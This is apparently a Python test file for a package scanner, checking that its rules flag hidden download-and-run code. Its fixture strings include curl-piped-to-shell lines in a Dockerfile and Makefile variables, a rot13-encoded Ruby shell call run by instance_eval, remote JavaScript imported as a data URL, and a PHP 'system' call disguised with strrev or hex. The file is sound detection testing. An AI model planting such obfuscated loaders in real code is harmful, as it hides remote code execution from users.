"""Payload classes the held-out code set 12 showed missing, each written as the check a reviewer would
write and tried on shapes of our own, with a benign near-miss that must stay clean."""

from __future__ import annotations

from skillpm.scan.engine import classify

from gap_helpers import found as _found
from gap_helpers import scan as _scan


# ---------------------------------------------------------------- Dockerfile.<stage> is a Dockerfile
DOCKERFILE = "FROM alpine:3.20 AS build\nRUN curl -fsSL https://get.example-tools.io/i.sh | sh\n"


def test_a_dockerfile_named_for_an_executable_suffix_is_read_as_code():
    for name in ("templates/Dockerfile.node", "Dockerfile.bin", "docker/Containerfile.so"):
        assert classify(name, DOCKERFILE.encode(), False) == "script"
        assert _found(name, DOCKERFILE, "SC-01")
    assert not [f for f in _scan({"Dockerfile.node": DOCKERFILE}).findings if f.rule.startswith("BN-")]


def test_a_real_native_addon_stays_binary():
    assert classify("build/addon.node", b"\x7fELF\x02\x01\x01" + b"\0" * 64, False) == "executable"
    assert classify("lib/helper.node", b"\x01\x02" + b"\0" * 64, False) == "executable"


# ---------------------------------------------------------------- Make variables, expanded
MAKEFILE = """include tools.mk

BOOT = $(FETCH) $(SRC)/$(ENTRY) | $(RUN)

setup:
\t@$(BOOT) >/dev/null 2>&1 || true
\tgo build ./...
"""
TOOLS_MK = """FETCH := curl -fsSL
SRC := https://get.example-tools.io
ENTRY ?= install
RUN = sudo sh -s --
"""


def test_a_recipe_whose_variables_pipe_a_download_into_a_shell():
    assert [s for s, _ in _found("Makefile", MAKEFILE, "SC-01", extra={"tools.mk": TOOLS_MK})] == ["critical"]
    # one file is enough too
    assert _found("build/Makefile", TOOLS_MK + MAKEFILE.replace("include tools.mk", ""), "SC-01")


def test_a_recipe_whose_variables_download_and_verify_stays_clean():
    benign = """VERSION := 1.4.2
URL := https://github.com/acme/tool/releases/download/v$(VERSION)/tool.tar.gz
SUM := 3f1c0f5d2e

tool:
\tcurl -fsSLo tool.tar.gz $(URL)
\techo "$(SUM)  tool.tar.gz" | sha256sum -c -
\ttar -xzf tool.tar.gz -C bin
\t$(CC) -o bin/app main.c
"""
    r = _scan({"Makefile": benign})
    assert r.grade in ("A", "B"), [(f.rule, f.severity, f.line) for f in r.findings]


# ---------------------------------------------------------------- Ruby's rot13, String#tr
RUBY_ROT13 = """PROFILE = ["flfgrz('phey uggcf://k.rknzcyr/v | fu')"].join

class Signer
  def prepare
    instance_eval(PROFILE.tr("A-Za-z", "N-ZA-Mn-za-m"))
  end
end
"""


def test_ruby_rot13_run_as_code():
    assert [s for s, _ in _found("scripts/sign.rb", RUBY_ROT13, "SC-02")] == ["high"]


def test_ruby_rot13_only_printed_stays_clean():
    puzzle = RUBY_ROT13.replace("instance_eval(", "puts(")
    assert not _found("scripts/sign.rb", puzzle, "SC-02")
    upcase = RUBY_ROT13.replace('.tr("A-Za-z", "N-ZA-Mn-za-m")', '.tr("a-z", "A-Z")')
    assert not _found("scripts/sign.rb", upcase, "SC-02")


# ---------------------------------------------------------------- import() of a downloaded string
IMPORT_DATA_URL = """async function plugin(u) {
  const code = await (await fetch(u)).text();
  const href = 'data:text/javascript,' + encodeURIComponent(code);
  return import(href);
}
plugin(process.argv[2]);
"""


def test_a_download_imported_as_a_data_url():
    assert [s for s, _ in _found("scripts/plugin.mjs", IMPORT_DATA_URL, "SC-01")] == ["critical"]


def test_importing_a_module_named_by_a_download_stays_clean():
    # the server names a local module (no URL is made of the text): not a download run
    named = '''async function plugin(u) {
  const cfg = await (await fetch(u)).json();
  return import(cfg.theme);
}
plugin(process.argv[2]);
'''
    assert not _found("scripts/plugin.mjs", named, "SC-01")


# ---------------------------------------------------------------- PHP: a function name decoded, then called
PHP_CALLABLE = """<?php
$run = strrev('metsys');
foreach ($steps as $s) {
    $run(implode(' ', array_map('escapeshellarg', $s)));
}
"""


def test_php_calling_a_function_whose_name_it_decoded():
    assert [s for s, _ in _found("scripts/fix.php", PHP_CALLABLE, "SC-02")] == ["high"]
    hexed = PHP_CALLABLE.replace("strrev('metsys')", "hex2bin('73797374656d')")
    assert _found("scripts/fix.php", hexed, "SC-02")


def test_php_reversing_text_for_display_stays_clean():
    shown = """<?php
$title = strrev('Hello, world');
$name = strrev($argv[1]);
$say = function ($m) { echo $m, PHP_EOL; };
$say($title . $name);
"""
    assert not _found("scripts/fix.php", shown, "SC-02")


def test_a_makefile_that_expands_without_end_is_bounded():
    import time
    defs = "A = $(B)$(B)$(B)$(B)\nB = $(C)$(C)$(C)$(C)\nC = $(D)$(D)$(D)$(D)\nD = curl -fsSL https://x.example/i | sh;\n"
    body = "\n".join(f"t{i}:\n\t$(A)$(A)$(A)$(A)$(A)$(A)" for i in range(2000))
    t = time.process_time()
    _scan({"Makefile": defs + body})
    assert time.process_time() - t < 10
